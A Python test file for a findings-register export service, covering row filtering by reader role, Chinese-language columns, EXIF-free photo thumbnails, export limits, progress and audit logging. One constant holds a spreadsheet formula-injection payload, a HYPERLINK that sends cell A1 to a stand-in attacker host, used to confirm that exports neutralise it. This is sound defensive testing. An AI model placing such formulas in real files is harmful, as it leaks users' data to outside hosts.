"""Exporting the findings register (services/findings/register_export.py): exactly the rows
the reader's register shows for the same filters and order, formulas harmless, the first
photo as a bare thumbnail in the XLSX, too many rows refused, progress reported, audited.

The findings are those of the register's tests (tests/service/test_findings_register.py:
seven submitted findings at four units, two with photo rows whose files are not in the
store); a real GPS-tagged photo is added through the inspector's normal upload."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from PIL import Image
from sqlmodel import select

from db.models import AuditEvent, Finding, Photo
from i18n import LANGUAGES, translate
from services.core.errors import PermissionDenied, ValidationFailed
from services.findings import register, register_export
from services.findings.register import RegisterFilters
from tests.conftest import PHOTOS, count_rows
from tests.factories import confirm, make_template, make_visit
from tests.service import test_findings_register

reg = test_findings_register.reg
ALL = test_findings_register.ALL
EVERY = RegisterFilters()
HOSTILE = '=HYPERLINK("http://evil.invalid/?"&A1,"点此")'
GPS_PHOTO = PHOTOS / "jpg_gps_DSCN0010.jpg"
COL = {c: i for i, c in enumerate((*register_export.COLUMNS, register_export.PHOTO_COLUMN))}


def zh(key: str, **params) -> str:
    return translate(key, "zh-CN", **params)


def _names(reg) -> dict[int, str]:
    return {v: k for k, v in reg.items() if isinstance(v, int) and k.startswith("f")}


def _csv(uow, actor, filters=EVERY, **kw) -> list[dict[str, str]]:
    out = io.BytesIO()
    written = uow.query(register_export.export_csv, out, actor=actor, filters=filters,
                        translate=zh, **kw)
    data = out.getvalue()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert written == len(rows)
    return rows


def _xlsx(uow, actor, filters=EVERY, **kw):
    out = io.BytesIO()
    written = uow.query(register_export.export_xlsx, out, actor=actor, filters=filters,
                        translate=zh, **kw)
    sheet = openpyxl.load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    header, *rows = [[c for c in row] for row in sheet.iter_rows()]
    assert written == len(rows)
    return sheet, [h.value for h in header], rows


def _listed_ids(uow, actor, filters=EVERY, **kw) -> list[int]:
    return [r.id for r in uow.query(register.list_register, actor=actor, filters=filters,
                                    limit=register.MAX_PAGE, **kw)]


@pytest.mark.parametrize("role", ["office", "leader", "insp_a", "liaison_a", "liaison_b"])
@pytest.mark.parametrize(("filters", "sort", "descending"), [
    ({}, "found", True),
    ({}, "deadline", False),
    ({"overdue": False}, "unit", True),
    ({"status": "rectifying"}, "severity", False),
    ({"has_photos": True}, "status", True),
], ids=["all", "deadline", "not-overdue", "rectifying", "photos"])
def test_the_export_holds_exactly_the_filtered_rows_in_the_chosen_order(
        uow, reg, monkeypatch, role, filters, sort, descending):
    monkeypatch.setattr(register_export, "BATCH", 2)  # several batches of one query
    actor, chosen = reg[role], RegisterFilters(**filters)
    expected = _listed_ids(uow, actor, chosen, sort=sort, descending=descending)
    rows = _csv(uow, actor, chosen, sort=sort, descending=descending)
    assert [int(r["编号"]) for r in rows] == expected
    _sheet, _header, cells = _xlsx(uow, actor, chosen, sort=sort, descending=descending)
    assert [row[COL["id"]].value for row in cells] == expected


@pytest.mark.parametrize(("role", "expected"), [
    ("office", ALL),
    ("leader", {"f1", "f2", "f3", "f5", "f6"}),  # confirmed only: not f4 (open), f7
    ("insp_b", {"f4", "f6", "f7"}),  # 镜铁区 only
    ("liaison_a", {"f1", "f2"}),  # its own unit's confirmed findings
    ("liaison_b", {"f6"}),
])
def test_each_reader_exports_only_what_they_may_read(uow, reg, role, expected):
    names = _names(reg)
    assert {names[int(r["编号"])] for r in _csv(uow, reg[role])} == expected
    units = {r["单位"] for r in _csv(uow, reg[role])}
    if role == "liaison_a":
        assert units == {"A雄关区供电所"}


def test_a_unit_filter_cannot_widen_what_a_liaison_reads(uow, reg):
    other_unit = RegisterFilters(unit_id=reg["ub"])
    assert _csv(uow, reg["liaison_a"], other_unit) == []


def test_a_row_says_what_the_register_says_in_the_readers_words(uow, reg):
    rows = {int(r["编号"]): r for r in _csv(uow, reg["office"])}
    f3 = rows[reg["f3"]]
    assert (f3["单位"], f3["区域"], f3["检查方式"], f3["类别"], f3["严重程度"], f3["状态"]) == (
        "B新城社区供水站", "新城社区", "暗访", "办事效率", "较重", zh("finding_status.reopened"))
    assert (f3["整改期限"], f3["是否重新整改"], f3["照片数"], f3["问题描述"]) == (
        "2026-11-25", "是", "2", "问题f3")
    assert f3["发现时间"] == "2026-11-10 12:00"  # the city's clock
    f6 = rows[reg["f6"]]
    assert (f6["检查方式"], f6["照片数"], f6["是否已通报"]) == ("来自投诉", "0", "否")
    assert rows[reg["f5"]]["区域"] == "市级"
    assert rows[reg["f4"]]["整改期限"] == ""


def test_the_circulated_flag_follows_issued_notices(uow, reg):
    from datetime import UTC, datetime

    with uow:
        finding = uow.session.get(Finding, reg["f1"])
        finding.circulated_at = datetime(2026, 11, 24, 2, tzinfo=UTC)
        uow.session.add(finding)
        uow.commit()
    rows = {int(r["编号"]): r["是否已通报"] for r in _csv(uow, reg["office"])}
    assert rows.pop(reg["f1"]) == "是"
    assert set(rows.values()) == {"否"}


def test_a_typed_formula_stays_text_in_the_csv_and_the_xlsx(uow, reg):
    with uow:
        finding = uow.session.get(Finding, reg["f1"])
        finding.description = HOSTILE
        uow.session.add(finding)
        uow.commit()
    [hostile] = [r for r in _csv(uow, reg["office"]) if "HYPERLINK" in r["问题描述"]]
    assert hostile["问题描述"] == "'" + HOSTILE
    _sheet, _header, rows = _xlsx(uow, reg["office"])
    cells = [row[COL["description"]] for row in rows if row[COL["id"]].value == reg["f1"]]
    assert [c.value for c in cells] == [HOSTILE]
    assert cells[0].data_type == "s"  # a string, not a formula


def test_headers_are_in_each_language(uow, reg):
    for lang in LANGUAGES:
        words = register_export.headers(
            lambda key, lang=lang, **kw: translate(key, lang, **kw),
            (*register_export.COLUMNS, "photo"))
        assert not [w for w in words if w.startswith("register_export.")]
    _sheet, header, _rows = _xlsx(uow, reg["office"])
    assert header[:3] == ["编号", "发现时间", "单位"] and header[-1] == "照片"


@pytest.fixture
def photographed(uow, reg, store):
    """Two confirmed findings at A雄关区供电所, each with the same real photo that carries
    GPS in its EXIF, uploaded through the inspector's normal path."""
    office = reg["office"]
    inspector = reg["insp_a"]
    template = make_template(uow, actor=office, name="照片检查表")
    visit = make_visit(uow, inspector=inspector, unit=reg["ua"], template=template,
                       findings=[dict(description="窗口无人"), dict(description="排队过长")],
                       photo=GPS_PHOTO.read_bytes(), store=store, submit=True)
    for finding in visit.findings:
        confirm(uow, actor=office, finding=finding)
    with uow.read() as r:
        photos = r.session.exec(select(Photo).where(
            Photo.finding_id.in_([f.id for f in visit.findings]))).all()
    assert photos and all(p.gps_lat is not None for p in photos)  # the original has GPS
    return [f.id for f in visit.findings]


def _images(sheet) -> list[Image.Image]:
    return [Image.open(io.BytesIO(image._data())) for image in sheet._images]


@pytest.mark.parametrize("role", ["office", "leader", "liaison_a"])
def test_the_first_photo_is_a_thumbnail_without_exif(uow, reg, store, photographed, role):
    sheet, _header, rows = _xlsx(uow, reg[role], RegisterFilters(unit_id=reg["ua"]),
                                 store=store)
    images = _images(sheet)
    assert len(images) == 2  # one per finding with a real file
    for im in images:
        assert im.format == "JPEG"
        assert max(im.size) <= register_export.THUMB_PX
        assert not im.getexif()  # no EXIF at all, so no GPS
        assert "exif" not in im.info
    anchored = {image.anchor._from.row for image in sheet._images}  # 0-based rows
    lines = {k + 1 for k, row in enumerate(rows) if row[COL["id"]].value in photographed}
    assert anchored == lines


def test_past_the_photo_limit_a_row_names_its_photos_instead(uow, reg, store, photographed,
                                                             monkeypatch):
    monkeypatch.setattr(register_export, "PHOTO_ROWS", 1)
    sheet, _header, rows = _xlsx(uow, reg["office"], RegisterFilters(has_photos=True),
                                 store=store)
    assert len(sheet._images) == 1
    texts = {row[COL["id"]].value: row[COL["photo"]].value for row in rows}
    # f3 and f4 have photo rows whose files are not in the store: named, not embedded.
    assert texts[reg["f3"]] == f"照片 2 张 · 问题 #{reg['f3']}（在系统中查看）"
    assert texts[reg["f4"]] == f"照片 1 张 · 问题 #{reg['f4']}（在系统中查看）"
    # Newest first, the id breaking the tie: the later one gets the one thumbnail.
    later, earlier = max(photographed), min(photographed)
    assert texts[later] is None  # the cell holds the image only
    assert texts[earlier] == f"照片 1 张 · 问题 #{earlier}（在系统中查看）"


def test_too_many_rows_are_refused_with_a_clear_message(uow, reg, monkeypatch):
    monkeypatch.setattr(register_export, "EXPORT_CAP", 6)
    for write in (register_export.export_csv, register_export.export_xlsx):
        out = io.BytesIO()
        with pytest.raises(ValidationFailed) as refused:
            uow.query(write, out, actor=reg["office"], translate=zh)
        assert refused.value.message_key == "register_export.too_many"
        assert refused.value.params == {"max": "6"}
    text = zh("register_export.too_many", max="20,000")
    assert "20,000" in text and "缩小筛选范围" in text
    # Narrowed to six or fewer, the same reader exports them.
    assert len(_csv(uow, reg["office"], RegisterFilters(district_id=reg["b"]))) == 3


def test_progress_runs_from_nothing_to_done(uow, reg, store, photographed, monkeypatch):
    monkeypatch.setattr(register_export, "BATCH", 3)
    for write in (_csv, _xlsx):
        calls = []
        kw = {"store": store} if write is _xlsx else {}
        write(uow, reg["office"], progress=lambda f, stage, calls=calls: calls.append(
            (f, stage)), **kw)
        fractions = [f for f, _stage in calls]
        assert fractions == sorted(fractions) and calls[0] == (0.0, "rows")
        assert calls[-1] == (1.0, "done")
        stages = {stage for _f, stage in calls}
        assert stages == ({"rows", "photos", "saving", "done"} if write is _xlsx
                          else {"rows", "done"})


def test_an_empty_export_still_has_its_header(uow, reg):
    nothing = RegisterFilters(unit_id=reg["ua"], district_id=reg["b"])
    assert _csv(uow, reg["office"], nothing) == []
    _sheet, header, rows = _xlsx(uow, reg["office"], nothing)
    assert rows == [] and header[0] == "编号"


def test_a_deactivated_account_exports_nothing(uow, reg):
    gone = reg["leader"]
    gone.active = False
    with pytest.raises(PermissionDenied):
        _csv(uow, gone)


def test_the_export_is_audited_with_its_filters_not_its_rows(uow, reg):
    filters = RegisterFilters(status="rectifying", overdue=True)
    uow.run(register_export.record_export, actor=reg["office"], rows=1, kind="xlsx",
            filters=filters, sort="deadline", descending=False)
    with uow.read() as r:
        event = r.session.exec(select(AuditEvent).where(
            AuditEvent.action == "finding.export")).one()
    assert (event.actor_id, event.entity, event.entity_id) == (reg["office"].id, "finding",
                                                               None)
    assert event.after == {"rows": 1, "format": "xlsx", "sort": "deadline",
                           "descending": False,
                           "filters": {"status": "rectifying", "overdue": "1"}}
    gone = reg["leader"]
    gone.active = False
    with pytest.raises(PermissionDenied):
        uow.run(register_export.record_export, actor=gone, rows=0, kind="csv",
                filters=RegisterFilters(), sort="found", descending=True)
    assert count_rows(uow, AuditEvent, AuditEvent.action == "finding.export") == 1
